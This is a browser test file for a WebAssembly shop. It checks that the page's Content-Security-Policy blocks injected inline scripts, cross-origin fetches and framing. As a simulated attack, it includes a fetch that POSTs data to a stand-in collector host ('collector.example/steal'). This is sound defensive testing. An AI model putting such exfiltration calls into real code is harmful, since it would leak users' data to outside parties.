// The page's Content-Security-Policy (docs/security.md): the WebAssembly app runs under it — no
// test may leave a violation behind (harness.mjs) — and it does stop what it is there to stop.
import { assert, openPage, takeCspViolations, waitForState } from "./harness.mjs";

// t: { browser, server } (run.mjs).
export default function securityTests(t) {
  const { browser, server } = t;
  return [
    ["the app runs under its Content-Security-Policy; an injected script, a foreign fetch and framing are blocked", async () => {
      const { context, page, errors } = await openPage(browser, { locale: "en-US", viewport: { width: 1280, height: 800 } });
      const answer = await page.goto(server.url);
      const policy = answer.headers()["content-security-policy"];
      assert(/script-src 'self' 'wasm-unsafe-eval' 'sha256-/.test(policy), "the page's policy: " + policy);
      assert(!/unsafe-inline|'unsafe-eval'/.test(policy), "no unsafe-inline or unsafe-eval: " + policy);
      await waitForState(page, (s) => s.screen === "browse" && s.productCount > 0, "the catalog, drawn by the WebAssembly app");
      assert(takeCspViolations().length === 0, "the app itself runs without a violation");

      // What an injection would try: an inline script, data sent elsewhere, the page in a frame.
      const ran = await page.evaluate(async () => {
        window.injected = false;
        const s = document.createElement("script");
        s.textContent = "window.injected = true";
        document.head.appendChild(s);
        let sent = true;
        try { await fetch("https://collector.example/steal", { method: "POST", body: "x" }); } catch { sent = false; }
        return { injected: window.injected, sent };
      });
      assert(!ran.injected, "the injected inline script did not run");
      assert(!ran.sent, "the fetch to another origin was refused");
      await page.waitForTimeout(200);
      const blocked = takeCspViolations().join("\n");
      assert(/script-src/.test(blocked), "the inline script was reported: " + blocked);
      assert(/connect-src/.test(blocked), "the fetch was reported: " + blocked);
      assert(answer.headers()["x-frame-options"] === "DENY" && /frame-ancestors 'none'/.test(policy), "no one may frame the shop");
      assert(errors.length === 0, "no page errors: " + errors.join("; "));
      await context.close();
    }],
  ];
}
